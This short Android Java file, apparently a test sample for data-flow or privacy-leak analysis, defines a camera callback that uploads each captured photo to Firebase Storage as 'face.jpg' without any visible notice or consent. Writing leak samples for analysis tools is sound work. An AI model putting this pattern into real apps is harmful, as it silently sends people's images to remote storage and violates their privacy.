package com.example.flows.firebase_storage;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

final class Shot implements android.hardware.Camera.PictureCallback {
    @Override
    public void onPictureTaken(byte[] data, android.hardware.Camera camera) {
        com.google.firebase.storage.FirebaseStorage.getInstance().getReference().child("face.jpg").putBytes(data);
    }
}
